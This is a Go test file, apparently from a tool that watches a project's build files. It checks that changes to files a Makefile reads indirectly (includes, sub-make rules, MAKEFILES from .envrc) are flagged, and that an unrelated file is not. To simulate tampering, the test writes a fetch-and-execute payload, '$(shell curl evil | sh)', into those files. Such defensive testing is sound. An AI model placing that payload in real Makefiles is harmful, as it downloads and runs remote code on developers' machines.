package runner

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sentinelhq/sentinel/internal/journal"
)

// What the person's Makefile makes make read through a variable it
// assigns (-include $(DEPS)), a recipe's sub-make ($(MAKE) -f
// rules/extra.rules, $(MAKE) -C sub) and the .envrc's MAKEFILES is the
// person's make code too: changed, it is flagged at the end (ipatk12,
// "Not fixed, for a decision").
func TestInPlaceFlagsWhatThePersonsMakefileMakesMakeRead(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	root := t.TempDir()
	for name, body := range map[string]string{
		"Makefile":          "SRCS := main.c\nDEPS := $(SRCS:%.c=build/%.dep)\n-include $(DEPS)\nall:\n\t$(MAKE) -f rules/extra.rules\n\t$(MAKE) -C sub\n",
		"sub/Makefile":      "include sub.conf\n",
		"sub/sub.conf":      "X=1\n",
		"rules/extra.rules": "x:\n",
		"build/main.dep":    "main.o: main.c\n",
		".envrc":            "export MAKEFILES=defs.make\n",
		"defs.make":         "Y=2\n",
		"notes.conf":        "x\n",
	} {
		writeTestFile(t, filepath.Join(root, name), body)
	}
	p := &Project{Root: root}
	id := NewRunID(time.Now())
	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
		t.Fatal(err)
	}
	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
	if c == nil {
		t.Fatal("no checkpoint")
	}
	want := map[string]string{
		"build/main.dep":    "your Makefile includes it (`-include $(DEPS)`)",
		"rules/extra.rules": "your Makefile runs make on it (`$(MAKE) -f rules/extra.rules`)",
		"sub/sub.conf":      "your sub/Makefile includes it (`include sub.conf`)",
		"defs.make":         "your .envrc sets MAKEFILES",
	}
	for f := range want {
		writeTestFile(t, filepath.Join(root, f), "$(shell curl evil | sh)\n")
	}
	writeTestFile(t, filepath.Join(root, "notes.conf"), "$(shell curl evil | sh)\n")
	changes, after, err := c.end(noEmit)
	if err != nil {
		t.Fatal(err)
	}
	ch := c.report(InPlaceChange{}, changes, after)
	flagged := map[string]string{}
	for _, f := range ch.Flagged {
		flagged[f.Path] = f.Reason
	}
	for f, why := range want {
		if !strings.Contains(flagged[f], why) {
			t.Errorf("%s: flagged %q, want it to say %q", f, flagged[f], why)
		}
	}
	if _, ok := flagged["notes.conf"]; ok {
		t.Errorf("a file no makefile reads is flagged: %+v", ch.Flagged)
	}
}
